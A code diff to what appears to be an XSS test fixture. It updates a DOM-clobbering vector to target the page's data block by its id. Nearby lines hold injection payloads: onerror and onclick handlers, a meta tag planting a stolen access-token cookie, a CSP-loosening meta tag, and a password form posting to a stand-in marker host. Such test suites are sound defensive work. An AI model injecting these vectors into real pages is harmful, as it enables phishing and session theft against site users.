@@ -2,6 +2,7 @@
 // the OWASP XSS filter-evasion cheat sheet and the DOMPurify mutation-XSS reports. Every vector
 // that ran would show itself: a dialog (alert), a request to MARKER_HOST, or MARKER_TEXT on the
 // console. The tests inject each one through every agency-authored field that reaches a page.
+import { PAGE_DATA_ID } from '../../sites/shell/src/lib/pageData.ts';
 
 /** Nothing resolves this name: a request to it can only come from an injected vector. */
 export const MARKER_HOST = 'xss.marker.invalid';
@@ -189,7 +190,8 @@ const BASE_META_FORMS = [
   `<meta http-equiv="Set-Cookie" content="wl_access_token=stolen">`,
   `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
   `<form action="${MARKER_URL}" method="post"><input name="password" type="password"><button>Log in</button></form>`,
-  `<form id="wl-shell"><input name="textContent" value="{}"></form>`,
+  // DOM clobbering of the page's data block, by the id its islands read.
+  `<form id="${PAGE_DATA_ID}"><input name="textContent" value="{}"></form>`,
   `<input type="image" src=x onerror=${run}>`,
   `<input type="hidden" accesskey="X" onclick=${run}>`,
   `<button form="x" formaction="${MARKER_URL}">x</button>`,
